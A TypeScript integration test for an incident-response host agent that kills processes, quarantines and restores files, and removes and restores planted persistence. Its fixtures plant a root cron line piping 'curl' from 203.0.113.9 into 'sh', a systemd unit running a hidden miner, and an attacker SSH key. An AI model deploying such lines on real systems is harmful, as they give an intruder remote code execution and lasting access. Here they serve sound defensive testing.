/**
 * The host agent against a real server on loopback, on both stores: it enrolls with a one-time token, shows
 * online, and carries out what the action center hands its device on this very host — a real process killed (and
 * one whose pid no longer names the process left alone), a real file quarantined and restored byte for byte with
 * its mode — each reported back as the action's result.
 */
import { spawn } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createHash } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { backends, createTestStore, type TestStore } from '../../test/helpers/stores.js';
import { until } from '../../test/helpers/until.js';
import { requestAction, undoActions } from '../respond/action-center.js';
import { executePending } from '../respond/executor.js';
import type { ActionRecord, ActionType } from '../domain/action.js';
import { loopbackAgent, type LoopbackAgent } from '../../test/helpers/agent.js';
import { descendantsOf, processInfo } from './host-linux.js';

describe.each(backends)('the host agent on this host, with a server on %s', (dialect) => {
  let t: TestStore;
  let host: LoopbackAgent;
  let work: string;

  beforeEach(async () => {
    t = await createTestStore(dialect);
    host = await loopbackAgent(t);
    work = mkdtempSync(path.join(os.tmpdir(), 'autoir-agent-work-'));
  });
  afterEach(async () => {
    await host.close();
    await t.cleanup();
    rmSync(work, { recursive: true, force: true });
  });

  const start = async () => {
    const agent = await host.start();
    expect(statSync(host.stateDir).mode & 0o777).toBe(0o700);
    expect(statSync(path.join(host.stateDir, 'agent.json')).mode & 0o777).toBe(0o600);
    return agent;
  };

  /** Request an action, let the executor hand it over, and wait for the agent's result. */
  const carriedOut = async (action: ActionRecord): Promise<ActionRecord> => {
    await executePending(t.store, { worker: 'test', now: () => new Date(), connectors: async () => [] });
    return until(`${action.id} done`, async () => {
      const found = await t.store.actions.get(action.id);
      return found && !['queued', 'running', 'approved'].includes(found.status) ? found : undefined;
    });
  };
  const request = (
    type: ActionType,
    targetKey: string,
    deviceKey: string,
    parameters: Record<string, unknown>,
  ) => requestAction(t.store, { type, targetKey, deviceKey, parameters }, 'token:rita', new Date());

  it('enrolls, then kills the process it is told to — only if pid, start time and program still match', async () => {
    const agent = await start();
    expect(agent.deviceKey).toMatch(/^device:/);
    const victim = spawn('sleep', ['300'], { stdio: 'ignore' });
    const exited = new Promise<string | null>((resolve) =>
      victim.once('exit', (_code, signal) => resolve(signal)),
    );
    const bystander = spawn('sleep', ['301'], { stdio: 'ignore' });
    try {
      const wrongStart = await carriedOut(
        await request(
          'killProcess',
          `process:${agent.deviceKey.slice(7)}:${bystander.pid}`,
          agent.deviceKey,
          {
            pid: bystander.pid,
            startedAt: '2001-01-01T00:00:00.000Z',
          },
        ),
      );
      expect(wrongStart.status).toBe('succeeded');
      expect(wrongStart.resultDetails).toMatchObject({ reused: true });
      expect(bystander.exitCode).toBeNull();
      expect(() => process.kill(bystander.pid as number, 0)).not.toThrow();

      const killed = await carriedOut(
        await request('killProcess', `process:${agent.deviceKey.slice(7)}:${victim.pid}`, agent.deviceKey, {
          pid: victim.pid,
          imagePath: '/usr/bin/sleep',
        }),
      );
      expect(killed.status, JSON.stringify(killed)).toBe('succeeded');
      expect(await exited).toBe('SIGKILL');
      expect(killed.connector).toBe(`agent:${agent.id}`);
    } finally {
      victim.kill('SIGKILL');
      bystander.kill('SIGKILL');
    }
  }, 60_000);

  it('kills a process tree when asked: the process and every descendant', async () => {
    const agent = await start();
    const shell = spawn('sh', ['-c', 'sleep 303 & sleep 304 & wait'], { stdio: 'ignore' });
    try {
      const children = await until('the shell’s children', async () => {
        const found = await descendantsOf(shell.pid as number, 0);
        return found.length === 2 ? found : undefined;
      });
      const started = (await processInfo(shell.pid as number))?.startedAt as number;
      const killed = await carriedOut(
        await request('killProcess', `process:${agent.deviceKey.slice(7)}:${shell.pid}`, agent.deviceKey, {
          pid: shell.pid,
          startedAt: new Date(started).toISOString(),
          tree: true,
        }),
      );
      expect(killed.status, JSON.stringify(killed)).toBe('succeeded');
      expect([...(killed.resultDetails?.descendants as number[])].sort()).toEqual([...children].sort());
      for (const pid of [shell.pid as number, ...children])
        await until(`pid ${pid} gone`, async () => ((await processInfo(pid)) ? undefined : true));
    } finally {
      shell.kill('SIGKILL');
    }
  }, 60_000);

  it('quarantines a file after checking its hash, and restores the same bytes and mode on undo', async () => {
    const agent = await start();
    const file = path.join(work, 'dropper.bin');
    const bytes = Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7) % 256));
    writeFileSync(file, bytes);
    chmodSync(file, 0o751);
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    const wrong = await carriedOut(
      await request('quarantineFile', `file:sha256:${'0'.repeat(64)}`, agent.deviceKey, {
        path: file,
        sha256: '0'.repeat(64),
      }),
    );
    expect(wrong.status).toBe('failed');
    expect(readFileSync(file)).toEqual(bytes);

    const moved = await carriedOut(
      await request('quarantineFile', `file:sha256:${sha256}`, agent.deviceKey, { path: file, sha256 }),
    );
    expect(moved.status, JSON.stringify(moved)).toBe('succeeded');
    expect(() => statSync(file)).toThrow();
    const [undo] = await undoActions(t.store, [moved.id], 'token:rita', 'false positive', new Date());
    const restored = await carriedOut(undo as ActionRecord);
    expect(restored.status, JSON.stringify(restored)).toBe('succeeded');
    expect(readFileSync(file)).toEqual(bytes);
    expect(statSync(file).mode & 0o7777).toBe(0o751);
    expect((await t.store.actions.get(moved.id))?.status).toBe('undone');
  }, 60_000);

  it('removes a planted cron file, systemd unit and authorized_keys line, and puts each back on undo', async () => {
    if (process.getuid?.() !== 0)
      throw new Error('run as root: the agent writes /etc/cron.d and /etc/systemd/system');
    const agent = await start();
    const host = agent.deviceKey.slice('device:'.length);
    const tag = `autoir-test-${process.pid}-${dialect}`;
    const cron = `/etc/cron.d/${tag}`;
    const unit = `/etc/systemd/system/${tag}.service`;
    const wants = `/etc/systemd/system/multi-user.target.wants/${tag}.service`;
    const keys = path.join(work, 'kim/.ssh/authorized_keys');
    const planted = {
      cron: '* * * * * root curl -s http://203.0.113.9/x | sh\n',
      unit: '[Service]\nExecStart=/tmp/.x/miner\n[Install]\nWantedBy=multi-user.target\n',
      keys: 'ssh-ed25519 AAAAC3admin admin@corp\nssh-ed25519 AAAAC3evil attacker@kali\nssh-rsa AAAAB3ops ops@corp\n',
    };
    try {
      writeFileSync(cron, planted.cron, { mode: 0o644 });
      writeFileSync(unit, planted.unit, { mode: 0o640 });
      mkdirSync(path.dirname(wants), { recursive: true });
      symlinkSync(unit, wants);
      mkdirSync(path.dirname(keys), { recursive: true });
      writeFileSync(keys, planted.keys, { mode: 0o600 });

      const removed = await Promise.all([
        request('removePersistence', `scheduledTask:${host}:${cron}`, agent.deviceKey, {
          type: 'scheduledTask',
          name: cron,
        }),
        request('removePersistence', `service:${host}:${tag}`, agent.deviceKey, {
          type: 'service',
          name: tag,
        }),
        request('removePersistence', `file:path:${host}:${keys}`, agent.deviceKey, {
          type: 'file',
          path: keys,
          line: 'ssh-ed25519 AAAAC3evil attacker@kali',
        }),
      ]).then((actions) => Promise.all(actions.map(carriedOut)));
      for (const action of removed) expect(action.status, JSON.stringify(action)).toBe('succeeded');
      expect(existsSync(cron)).toBe(false);
      expect(existsSync(unit)).toBe(false);
      expect(existsSync(wants)).toBe(false);
      expect(readFileSync(keys, 'utf8')).toBe(
        'ssh-ed25519 AAAAC3admin admin@corp\nssh-rsa AAAAB3ops ops@corp\n',
      );
      expect(statSync(keys).mode & 0o777).toBe(0o600);
      expect(removed[1]?.resultDetails).toMatchObject({ kind: 'systemdUnit', links: [wants] });

      const undos = await undoActions(
        t.store,
        removed.map((action) => action.id),
        'token:rita',
        'admin key',
        new Date(),
      );
      for (const undo of await Promise.all(undos.map(carriedOut)))
        expect(undo.status, JSON.stringify(undo)).toBe('succeeded');
      expect(readFileSync(cron, 'utf8')).toBe(planted.cron);
      expect(statSync(cron).mode & 0o777).toBe(0o644);
      expect(readFileSync(unit, 'utf8')).toBe(planted.unit);
      expect(statSync(unit).mode & 0o777).toBe(0o640);
      expect(readlinkSync(wants)).toBe(unit);
      expect(readFileSync(keys, 'utf8')).toBe(planted.keys);
      for (const action of removed) expect((await t.store.actions.get(action.id))?.status).toBe('undone');
    } finally {
      for (const file of [cron, unit, wants]) rmSync(file, { force: true });
    }
  }, 60_000);

  it('never removes a unit a package installed, nor a file outside the autostart places', async () => {
    const agent = await start();
    const host = agent.deviceKey.slice('device:'.length);
    const packaged = await carriedOut(
      await request('removePersistence', `service:${host}:apt-daily`, agent.deviceKey, {
        type: 'service',
        name: 'apt-daily',
      }),
    );
    expect(packaged.status).toBe('failed');
    expect(packaged.resultMessage).toMatch(/belongs to the package apt/);
    expect(existsSync('/lib/systemd/system/apt-daily.service')).toBe(true);
    const elsewhere = await carriedOut(
      await request('removePersistence', `file:path:${host}:/etc/passwd`, agent.deviceKey, {
        type: 'file',
        path: '/etc/passwd',
      }),
    );
    expect(elsewhere.status).toBe('failed');
    expect(elsewhere.resultMessage).toMatch(/not an autostart place/);
    // An authorized_keys that links elsewhere: the file linked to is no autostart place, and stays as it is.
    const victim = path.join(work, 'victim.txt');
    writeFileSync(victim, 'keep me\n');
    const keys = path.join(work, 'mallory/.ssh/authorized_keys');
    mkdirSync(path.dirname(keys), { recursive: true });
    symlinkSync(victim, keys);
    const linked = await carriedOut(
      await request('removePersistence', `file:path:${host}:${keys}`, agent.deviceKey, {
        type: 'file',
        path: keys,
        line: 'keep me',
      }),
    );
    expect(linked.status).toBe('failed');
    expect(linked.resultMessage).toMatch(/links to .*victim\.txt, which is not an autostart place/);
    expect(readFileSync(victim, 'utf8')).toBe('keep me\n');
  }, 60_000);

  it('leaves an action for an offline agent waiting as pendingResource, and runs it when the agent is back', async () => {
    const agent = await start();
    await host.stop();
    const victim = spawn('sleep', ['302'], { stdio: 'ignore' });
    const exited = new Promise<string | null>((resolve) =>
      victim.once('exit', (_code, signal) => resolve(signal)),
    );
    try {
      // Three heartbeats missed: offline.
      const later = new Date(Date.now() + 120_000);
      const action = await request(
        'killProcess',
        `process:${agent.deviceKey.slice(7)}:${victim.pid}`,
        agent.deviceKey,
        { pid: victim.pid, imagePath: '/usr/bin/sleep' },
      );
      await executePending(t.store, { worker: 'test', now: () => later, connectors: async () => [] });
      const waiting = await t.store.actions.get(action.id);
      expect(waiting?.status).toBe('pendingResource');
      expect(Date.parse(waiting?.nextAttemptAt ?? '')).toBeGreaterThan(Date.now());
      expect(victim.exitCode).toBeNull();

      // Back, later still (the same state directory, no token): its first heartbeat makes the action due.
      await host.start();
      const due = await until('the action due again', async () => {
        const found = await t.store.actions.get(action.id);
        return found && Date.parse(found.nextAttemptAt ?? '') <= Date.now() ? found : undefined;
      });
      const ran = await carriedOut(due);
      expect(ran.status, JSON.stringify(ran)).toBe('succeeded');
      expect(await exited).toBe('SIGKILL');
    } finally {
      victim.kill('SIGKILL');
    }
  }, 60_000);
});
